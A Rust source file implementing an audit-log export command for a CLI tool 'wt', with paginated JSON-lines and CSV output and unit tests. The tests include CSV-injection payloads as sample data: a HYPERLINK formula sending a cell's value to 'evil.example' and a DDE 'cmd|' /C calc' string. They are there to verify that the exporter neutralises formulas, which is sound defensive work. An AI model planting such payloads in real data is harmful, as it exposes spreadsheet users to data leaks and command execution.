//! `wt audit export`: every matching entry, oldest first, as JSON lines or CSV, to stdout
//! or a file; resumable with `--after SEQ`.

use super::common::{FilterArgs, MAX_PAGE, TimeArgs, fetch_page, json_line};
use crate::output::Io;
use crate::{CliError, Ctx};
use clap::Args;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use wt_api::AuditEntry;

pub const ABOUT: &str = "Export the audit log as JSON lines or CSV";
pub const LONG_ABOUT: &str = "\
Export every matching entry of your org's audit log, oldest first, to stdout or a file.
Pages of 1000 entries are fetched and written one after the other, so memory stays flat for
any size. A progress line goes to stderr when it is a terminal.

Formats:
  jsonl (default)  one AuditEntry per line, as the API sends it (see `wt audit list`)
  csv              RFC 4180 (CRLF line ends, every field quoted, quotes doubled, so a
                   spreadsheet splitting on `;` cannot cut a cell), with a header line
                   and the columns
                   seq,occurred_at,actor_type,actor_id,actor_email,action,target_type,
                   target_id,ip,user_agent,outcome,details,prev_hash,hash
                   (details as compact JSON; absent values empty).
                   Safe to open in a spreadsheet: a value that begins with =, +, -, @,
                   a tab or a carriage return (a user agent such as =HYPERLINK(...),
                   an actor such as @SUM(...)) is written with a leading single quote
                   ('=HYPERLINK(...)), so it shows as text and never runs as a formula
                   (OWASP's CSV injection rule). Such cells differ from the recorded
                   values: check hashes with jsonl or `wt audit verify`.
JSON lines are written exactly as recorded (the API's entries, byte for byte).

Resuming: --after SEQ starts after that sequence number; pass the last seq you already
have (e.g. `tail -n1 audit.jsonl | jq .seq`) and add --append to extend the file (no second
CSV header). A file written by wt is created readable by you only.

Examples:
  wt audit export > audit.jsonl
  wt audit export --format csv --since 30d --output-file audit.csv
  wt audit export --after \"$(tail -n1 audit.jsonl | jq .seq)\" --append --output-file audit.jsonl";

/// `--format` values.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportFormat {
    /// One JSON object per line
    Jsonl,
    /// RFC 4180 CSV with a header line, formulas neutralised for spreadsheets
    Csv,
}

/// `wt audit export` options.
#[derive(Debug, Args)]
pub struct ExportArgs {
    /// Output format
    #[arg(long, value_enum, default_value_t = ExportFormat::Jsonl, value_name = "FORMAT")]
    pub format: ExportFormat,
    #[command(flatten)]
    pub filters: FilterArgs,
    #[command(flatten)]
    pub time: TimeArgs,
    /// Start after this sequence number (to resume: the last seq you already have)
    #[arg(long, value_name = "SEQ", value_parser = clap::value_parser!(i64).range(0..))]
    pub after: Option<i64>,
    /// Write to FILE instead of stdout
    #[arg(long, value_name = "FILE")]
    pub output_file: Option<PathBuf>,
    /// Append to --output-file instead of replacing it (CSV: no header when not empty)
    #[arg(long, requires = "output_file")]
    pub append: bool,
}

/// The CSV header line (the column order is a stable API).
pub const CSV_HEADER: &str = "seq,occurred_at,actor_type,actor_id,actor_email,action,target_type,target_id,ip,user_agent,outcome,details,prev_hash,hash";

/// Exports the log.
pub async fn run(args: ExportArgs, ctx: &Ctx) -> Result<(), CliError> {
    let (token, _) = ctx.bearer().await?;
    let mut sink = Sink::open(&ctx.io, args.output_file.as_deref(), args.append)?;
    let mut header = args.format == ExportFormat::Csv && !sink.has_content;
    let mut base = args.filters.pairs();
    base.extend(args.time.pairs());
    base.push(("order", "asc".into()));
    base.push(("limit", MAX_PAGE.to_string()));
    if let Some(after) = args.after {
        base.push(("after", after.to_string()));
    }
    let mut count = 0u64;
    let progress = ctx.io.progress_line();
    // No page cap (a log of 100M entries is 100,000 pages): every page must move forward
    // instead, so a server that repeats itself is an error, not an endless export.
    let mut last_seq: Option<i64> = None;
    let mut empty_pages = 0;
    let with_cursor = |c: Option<&str>| {
        let mut pairs = base.clone();
        if let Some(c) = c {
            pairs.push(("cursor", c.to_string()));
        }
        pairs
    };
    let mut cursor: Option<String> = None;
    let mut page = fetch_page(ctx, &token, &with_cursor(None)).await?;
    loop {
        let first = page.items.first().map(|e| e.seq);
        if let (Some(f), Some(l)) = (first, last_seq)
            && f <= l
        {
            return Err(CliError::Transport {
                server: ctx.server.clone(),
                reason: format!("the server sent seq {f} again after seq {l}"),
            });
        }
        empty_pages = if page.items.is_empty() {
            empty_pages + 1
        } else {
            0
        };
        if empty_pages > MAX_EMPTY_PAGES {
            return Err(CliError::Transport {
                server: ctx.server.clone(),
                reason: format!("{empty_pages} empty pages in a row, each with a next cursor"),
            });
        }
        let next_cursor = page
            .next_cursor
            .take()
            .filter(|n| !n.is_empty() && cursor.as_deref() != Some(n.as_str()));
        let items = std::mem::take(&mut page.items);
        let (n, last) = (items.len() as u64, items.last().map(|e| e.seq));
        // This page is formatted on another thread while the next one is asked for and
        // read: the server's work and ours overlap (about twice the entries a second).
        let (format, header_now) = (args.format, std::mem::take(&mut header));
        let formatting = tokio::task::spawn_blocking(move || match format {
            ExportFormat::Jsonl => {
                let mut chunk = String::new();
                for e in &items {
                    chunk.push_str(&json_line(e)?);
                    chunk.push('\n');
                }
                Ok(chunk)
            }
            ExportFormat::Csv => csv_chunk(&items, header_now),
        });
        let next = async {
            match &next_cursor {
                Some(c) => Some(fetch_page(ctx, &token, &with_cursor(Some(c))).await),
                None => None,
            }
        };
        let (chunk, next) = tokio::join!(formatting, next);
        let chunk = chunk.map_err(|e| CliError::Other(format!("formatting the export: {e}")))??;
        // Written before the next page's outcome is looked at: an export that fails later
        // still holds every entry through `last` (resume with --after).
        sink.write(&chunk)?;
        count += n;
        last_seq = last.or(last_seq);
        if let Some(last) = last {
            progress.set_message(format!("exported {count} entries (through seq {last})"));
        }
        match next {
            Some(p) => {
                page = p?;
                cursor = next_cursor;
            }
            None => {
                sink.finish()?;
                progress.finish_with_message(format!("exported {count} entries"));
                return Ok(());
            }
        }
    }
}

/// Empty pages with a next cursor tolerated in a row (a filter matching nothing for a
/// while is one; an endless run of them is a broken server).
const MAX_EMPTY_PAGES: u32 = 1000;

/// Where the export goes.
struct Sink<'a> {
    out: SinkOut<'a>,
    /// The target already holds data (appending to a non-empty file): no CSV header.
    has_content: bool,
}

enum SinkOut<'a> {
    Stdout(&'a Io),
    File {
        file: std::io::BufWriter<std::fs::File>,
        path: PathBuf,
    },
}

impl<'a> Sink<'a> {
    fn open(io: &'a Io, path: Option<&Path>, append: bool) -> Result<Sink<'a>, CliError> {
        let Some(path) = path else {
            return Ok(Sink {
                out: SinkOut::Stdout(io),
                has_content: false,
            });
        };
        let mut opts = std::fs::OpenOptions::new();
        opts.create(true);
        if append {
            opts.append(true);
        } else {
            opts.write(true).truncate(true);
        }
        #[cfg(unix)]
        {
            use std::os::unix::fs::OpenOptionsExt as _;
            // The log holds emails and IP addresses: readable by the owner only.
            opts.mode(0o600);
        }
        let file = opts
            .open(path)
            .map_err(|e| CliError::io(format!("cannot open {}", path.display()), e))?;
        let has_content = append && file.metadata().map(|m| m.len() > 0).unwrap_or(false);
        Ok(Sink {
            out: SinkOut::File {
                file: std::io::BufWriter::new(file),
                path: path.to_path_buf(),
            },
            has_content,
        })
    }

    /// Writes whole lines (`text` ends with a line break) and flushes, so an interrupted
    /// export ends at a line boundary.
    fn write(&mut self, text: &str) -> Result<(), CliError> {
        if text.is_empty() {
            return Ok(());
        }
        match &mut self.out {
            SinkOut::Stdout(io) => io.println(text.strip_suffix('\n').unwrap_or(text)),
            SinkOut::File { file, path } => file
                .write_all(text.as_bytes())
                .and_then(|()| file.flush())
                .map_err(|e| CliError::io(format!("writing {}", path.display()), e)),
        }
    }

    fn finish(self) -> Result<(), CliError> {
        match self.out {
            SinkOut::Stdout(_) => Ok(()),
            SinkOut::File { file, path } => file
                .into_inner()
                .map_err(|e| e.into_error())
                .and_then(|f| f.sync_all())
                .map_err(|e| CliError::io(format!("writing {}", path.display()), e)),
        }
    }
}

/// First characters that make a spreadsheet read a cell as a formula (OWASP, CSV
/// injection): `=`, `+`, `-`, `@`, tab and carriage return.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A value a spreadsheet would run as a formula gets a leading `'`, so it shows as text
/// (SECURITY.md #64). Every value of the CSV export goes through here.
pub fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(FORMULA_STARTS) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// The CSV writer of records: RFC 4180 with CRLF line ends, and every field quoted (quotes
/// doubled), so a spreadsheet whose list separator is `;` (or a tab) cannot split
/// `Mozilla;=HYPERLINK(...)` into a cell that starts with `=`.
fn csv_writer<W: std::io::Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .terminator(csv::Terminator::CRLF)
        .from_writer(out)
}

/// One entry's CSV fields, neutralised, columns as [`CSV_HEADER`].
pub fn csv_fields(e: &AuditEntry) -> [String; 14] {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    let details = serde_json::to_string(&e.details).unwrap_or_default();
    [
        e.seq.to_string(),
        e.occurred_at.clone(),
        e.actor.kind.clone(),
        opt(&e.actor.id),
        opt(&e.actor.email),
        e.action.clone(),
        e.target
            .as_ref()
            .map(|t| t.kind.clone())
            .unwrap_or_default(),
        e.target.as_ref().map(|t| t.id.clone()).unwrap_or_default(),
        opt(&e.ip),
        opt(&e.user_agent),
        e.outcome.clone(),
        details,
        e.prev_hash.clone(),
        e.hash.clone(),
    ]
    .map(|f| neutralise(&f).into_owned())
}

/// A page of entries as CSV records (each ending CRLF), after the header line when
/// `header` is set. The header is written unquoted, as [`CSV_HEADER`] reads.
pub fn csv_chunk(entries: &[AuditEntry], header: bool) -> Result<String, CliError> {
    let encode = |e: csv::Error| CliError::Other(format!("cannot encode CSV output: {e}"));
    let mut buf = Vec::new();
    if header {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut buf);
        w.write_record(CSV_HEADER.split(',')).map_err(encode)?;
        w.flush().map_err(|e| encode(e.into()))?;
    }
    let mut w = csv_writer(&mut buf);
    for e in entries {
        w.write_record(csv_fields(e)).map_err(encode)?;
    }
    w.flush().map_err(|e| encode(e.into()))?;
    drop(w);
    // Every field came in as a String: the bytes are UTF-8.
    String::from_utf8(buf).map_err(|e| CliError::Other(format!("cannot encode CSV output: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cmd::Command;
    use crate::cmd::audit::AuditCommand;
    use crate::cmd::audit::common::tests::{entry, entry_json, page};
    use crate::parse_from;
    use crate::testutil::{Reply, run_wt};

    fn parse(argv: &[&str]) -> Result<ExportArgs, clap::Error> {
        parse_from(argv).map(|cli| match cli.command {
            Command::Audit(AuditCommand::Export(a)) => a,
            other => panic!("parsed as {other:?}"),
        })
    }

    #[test]
    fn export_parses_format_after_and_file() {
        let a = parse(&[
            "wt",
            "audit",
            "export",
            "--format",
            "csv",
            "--after",
            "99",
            "--since",
            "7d",
            "--output-file",
            "a.csv",
            "--append",
        ])
        .map_err(|e| e.to_string())
        .unwrap();
        assert_eq!(a.format, ExportFormat::Csv);
        assert_eq!(a.after, Some(99));
        assert!(a.time.since.is_some() && a.append);
        assert_eq!(a.output_file.as_deref(), Some(Path::new("a.csv")));
        let d = parse(&["wt", "audit", "export"])
            .map_err(|e| e.to_string())
            .unwrap();
        assert_eq!(d.format, ExportFormat::Jsonl);
        assert!(
            parse(&["wt", "audit", "export", "--append"]).is_err(),
            "--append needs a file"
        );
        assert!(parse(&["wt", "audit", "export", "--format", "xml"]).is_err());
    }

    /// Fields as the export writes them: one CSV record, without its line end.
    fn record<S: AsRef<str>>(fields: &[S]) -> String {
        let mut buf = Vec::new();
        let mut w = csv_writer(&mut buf);
        w.write_record(fields.iter().map(|f| f.as_ref()))
            .and_then(|()| w.flush().map_err(Into::into))
            .map_err(|e| e.to_string())
            .unwrap();
        drop(w);
        let text = String::from_utf8(buf).map_err(|e| e.to_string()).unwrap();
        text.strip_suffix("\r\n").unwrap_or(&text).to_string()
    }

    /// One value as the export writes it: neutralised, then quoted.
    fn csv_field(s: &str) -> String {
        record(&[neutralise(s)])
    }

    fn csv_record(e: &AuditEntry) -> String {
        record(&csv_fields(e))
    }

    #[test]
    fn csv_fields_are_always_quoted() {
        assert_eq!(csv_field("plain"), "\"plain\"");
        assert_eq!(csv_field(""), "\"\"");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_field("cr\r"), "\"cr\r\"");
        // A spreadsheet splitting on `;` still sees one cell, not one starting with `=`.
        assert_eq!(
            csv_field("Mozilla;=HYPERLINK(1)"),
            "\"Mozilla;=HYPERLINK(1)\""
        );
    }

    #[test]
    fn csv_fields_that_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(csv_field("=1+2"), "\"'=1+2\"");
        assert_eq!(csv_field("+1"), "\"'+1\"");
        assert_eq!(csv_field("-2"), "\"'-2\"");
        assert_eq!(csv_field("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
        assert_eq!(csv_field("\tx"), "\"'\tx\"");
        assert_eq!(csv_field("\rx"), "\"'\rx\"");
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example\",\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""
        );
        // Only the first character counts.
        assert_eq!(csv_field("a=b"), "\"a=b\"");
        assert_eq!(csv_field("2001:db8::1"), "\"2001:db8::1\"");
    }

    #[test]
    fn csv_records_follow_the_header_column_order_with_quoting() {
        let mut e = entry(5);
        e.user_agent = Some("Mozilla/5.0 (X11, \"Linux\")".into());
        e.target = None;
        e.actor.id = None;
        let rec = csv_record(&e);
        assert_eq!(
            rec,
            "\"5\",\"2026-01-01T00:00:05Z\",\"user\",\"\",\"owner@example.com\",\"member.role_changed\",\"\",\"\",\"192.0.2.1\",\
             \"Mozilla/5.0 (X11, \"\"Linux\"\")\",\"success\",\
             \"{\"\"from\"\":\"\"viewer\"\",\"\"to\"\":\"\"analyst\"\"}\",\"h4\",\"h5\""
        );
        assert_eq!(CSV_HEADER.split(',').count(), 14);
        let chunk = csv_chunk(&[e.clone(), entry(6)], true)
            .map_err(|e| e.to_string())
            .unwrap();
        assert_eq!(
            chunk,
            format!("{CSV_HEADER}\r\n{rec}\r\n{}\r\n", csv_record(&entry(6)))
        );
        assert_eq!(csv_chunk(&[], false).ok().as_deref(), Some(""));
    }

    #[tokio::test]
    async fn a_server_that_repeats_a_page_is_an_error_not_an_endless_export() {
        let base = "/api/v1/orgs/audit-logs?order=asc&limit=1000";
        let r = run_wt(
            &["wt", "audit", "export"],
            "",
            vec![
                ("GET", base, Reply::json(200, page(&[1, 2], Some("c2")))),
                (
                    "GET",
                    "/api/v1/orgs/audit-logs?order=asc&limit=1000&cursor=c2",
                    Reply::json(200, page(&[2, 3], Some("c3"))),
                ),
            ],
        )
        .await;
        let (_, msg) = r.failure();
        assert!(msg.contains("seq 2 again"), "{msg}");
    }

    #[tokio::test]
    async fn export_csv_pages_oldest_first_after_seq_with_one_header() {
        let base = "/api/v1/orgs/audit-logs?action=auth.*&order=asc&limit=1000&after=10";
        let r = run_wt(
            &[
                "wt", "audit", "export", "--format", "csv", "--after", "10", "--action", "auth.*",
            ],
            "",
            vec![
                ("GET", base, Reply::json(200, page(&[11, 12], Some("c2")))),
                (
                    "GET",
                    "/api/v1/orgs/audit-logs?action=auth.*&order=asc&limit=1000&after=10&cursor=c2",
                    Reply::json(200, page(&[13], None)),
                ),
            ],
        )
        .await;
        assert!(r.result.is_ok(), "{:?} {:?}", r.result, r.stub.requests());
        let lines: Vec<&str> = r.out.split("\r\n").collect();
        assert_eq!(lines[0], CSV_HEADER);
        let seqs: Vec<&str> = lines[1..4]
            .iter()
            .map(|l| l.split(',').next().unwrap_or("").trim_matches('"'))
            .collect();
        assert_eq!(seqs, ["11", "12", "13"]);
        assert_eq!(lines.len(), 5, "{:?}", r.out);
        assert_eq!(lines[4], "");
        assert!(
            r.err.is_empty(),
            "no progress when stderr is not a terminal"
        );
    }

    #[tokio::test]
    async fn a_user_agent_formula_is_text_in_csv_and_exact_in_jsonl() {
        let ua = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";
        let mut hostile = entry_json(7);
        hostile["user_agent"] = ua.into();
        hostile["actor"]["email"] = "@SUM(1+1)@acme.test".into();
        hostile["target"]["id"] = "-1+cmd|' /C calc'!A0".into();
        let page = serde_json::json!({"items": [hostile.clone()], "next_cursor": null});
        let path = "/api/v1/orgs/audit-logs?order=asc&limit=1000";
        let r = run_wt(
            &["wt", "audit", "export", "--format", "csv"],
            "",
            vec![("GET", path, Reply::json(200, page.clone()))],
        )
        .await;
        assert!(r.result.is_ok(), "{:?}", r.result);
        let row = r.out.split("\r\n").nth(1).unwrap_or_default();
        assert!(
            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\","),
            "{row}"
        );
        assert!(row.contains(",\"'@SUM(1+1)@acme.test\","), "{row}");
        assert!(row.contains(",\"'-1+cmd|' /C calc'!A0\","), "{row}");
        // No cell of the row begins with a formula character.
        for cell in row.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {row}");
        }
        let r = run_wt(
            &["wt", "audit", "export", "--format", "jsonl"],
            "",
            vec![("GET", path, Reply::json(200, page))],
        )
        .await;
        assert!(r.result.is_ok(), "{:?}", r.result);
        let back: serde_json::Value = serde_json::from_str(r.out.trim()).unwrap_or_default();
        assert_eq!(back, hostile, "JSON lines stay exact");
    }

    #[tokio::test]
    async fn export_jsonl_to_a_file_and_resume_by_appending() {
        let dir = tempfile::tempdir().map_err(|e| e.to_string()).unwrap();
        let file = dir.path().join("audit.jsonl");
        let file_arg = file.to_string_lossy().to_string();
        let r = run_wt(
            &["wt", "audit", "export", "--output-file", &file_arg],
            "",
            vec![(
                "GET",
                "/api/v1/orgs/audit-logs?order=asc&limit=1000",
                Reply::json(200, page(&[1, 2], None)),
            )],
        )
        .await;
        assert!(r.result.is_ok(), "{:?}", r.result);
        assert!(r.out.is_empty());
        let r = run_wt(
            &[
                "wt",
                "audit",
                "export",
                "--after",
                "2",
                "--append",
                "--output-file",
                &file_arg,
            ],
            "",
            vec![(
                "GET",
                "/api/v1/orgs/audit-logs?order=asc&limit=1000&after=2",
                Reply::json(200, page(&[3], None)),
            )],
        )
        .await;
        assert!(r.result.is_ok(), "{:?}", r.result);
        let text = std::fs::read_to_string(&file).unwrap_or_default();
        let values: Vec<serde_json::Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_default())
            .collect();
        assert_eq!(values, vec![entry_json(1), entry_json(2), entry_json(3)]);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = std::fs::metadata(&file).map(|m| m.permissions().mode() & 0o777);
            assert_eq!(mode.ok(), Some(0o600));
        }
    }
}
